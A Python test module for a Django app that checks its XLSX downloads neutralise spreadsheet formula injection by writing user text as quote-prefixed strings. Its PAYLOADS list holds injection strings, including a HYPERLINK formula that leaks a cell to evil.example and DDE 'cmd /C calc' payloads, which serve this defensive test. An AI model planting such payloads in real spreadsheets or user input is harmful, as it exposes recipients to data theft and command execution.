"""Every workbook the app serves, downloaded through its page or API operation and read back (issue #11, 2).

User text starting with "=", "+", "-", "@", a tab or a carriage return must come back as a text cell
holding exactly that text, styled quotePrefix (so editing it keeps it text), with no formula anywhere in
the sheet XML; and every XLSX download says so in one correct Content-Type.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterable

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from giaoban.api.testing import bearer
from giaoban.delegations.models import Delegation
from giaoban.delegations.tests.factories import DelegationFactory
from giaoban.org.models import Organisation
from giaoban.reports.models import Indicator
from giaoban.reports.tests.test_documents import build_report
from giaoban.tasks.models import Task
from giaoban.tasks.tests.factories import make_task

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+84 912 345 678 gọi ngay",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 sau dấu tab",
    "\r=1+1 sau ký tự CR",
]


def _content(response) -> bytes:
    assert response.status_code == 200, response.content[:300] if not response.streaming else response
    assert response["Content-Type"] == XLSX
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_inert(content: bytes, texts: Iterable[str]) -> None:
    """Each text is in some cell of the workbook, exactly, as a quote-prefixed string; no formula at all."""
    wanted = set(texts)
    found = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in wanted:
                    found[cell.value] = cell
    assert set(found) == wanted, wanted - set(found)
    for text, cell in found.items():
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, text
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >]", xml), name
                assert 't="str"' not in xml  # a formula's cached string result


def _rename(unit: Organisation, name: str) -> None:
    # Straight to the database: the forms trim leading tabs and line breaks, an import or an older
    # record may not have.
    Organisation.objects.filter(pk=unit.pk).update(name=name)


def test_delegation_export_writes_user_text_as_inert_text(world, client_for):
    for payload in PAYLOADS:
        delegation = DelegationFactory(lead_unit=world.unit)
        Delegation.objects.filter(pk=delegation.pk).update(name=payload, notes=f"{payload} (ghi chú)")
    response = client_for(world.secretariat).get(reverse("delegations:delegation-export"))
    assert_inert(_content(response), [*PAYLOADS, *(f"{p} (ghi chú)" for p in PAYLOADS)])


def test_the_import_template_lists_unit_names_as_inert_text_on_the_page_and_the_api(
    world, client, client_for
):
    _rename(world.unit, PAYLOADS[0])
    _rename(world.other_unit, PAYLOADS[4])
    page = client_for(world.secretariat).get(reverse("delegations:import-template"))
    assert_inert(_content(page), [PAYLOADS[0], PAYLOADS[4]])
    client.logout()
    api = client.get("/api/v1/delegations/import-template", headers=bearer(world.secretariat))
    assert_inert(_content(api), [PAYLOADS[0], PAYLOADS[4]])


def test_the_bulk_task_sheet_and_the_dashboard_write_titles_as_inert_text(world, client_for):
    for payload in PAYLOADS:
        task = make_task(world)
        Task.objects.filter(pk=task.pk).update(title=payload)
    client = client_for(world.officer)
    assert_inert(_content(client.get(reverse("tasks:bulk-export"))), PAYLOADS)
    _rename(world.unit, PAYLOADS[2])
    dashboard = client_for(world.secretariat).get(reverse("tasks:dashboard-export"))
    assert_inert(_content(dashboard), [PAYLOADS[2]])


def test_the_report_annex_writes_indicator_and_unit_names_as_inert_text(world, client, client_for):
    report = build_report(world, approve=False)
    indicators = list(Indicator.objects.filter(template=report.request.template).order_by("position"))
    for indicator, payload in zip(indicators, PAYLOADS, strict=False):
        Indicator.objects.filter(pk=indicator.pk).update(name=payload)
    _rename(world.unit, PAYLOADS[4])
    texts = [*PAYLOADS[: len(indicators)], PAYLOADS[4]]
    page = client_for(world.secretariat).get(reverse("reports:report-annex", args=[report.pk]))
    assert_inert(_content(page), texts)
    client.logout()
    api = client.get(f"/api/v1/reports/{report.pk}/annex.xlsx", headers=bearer(world.secretariat))
    assert_inert(_content(api), texts)
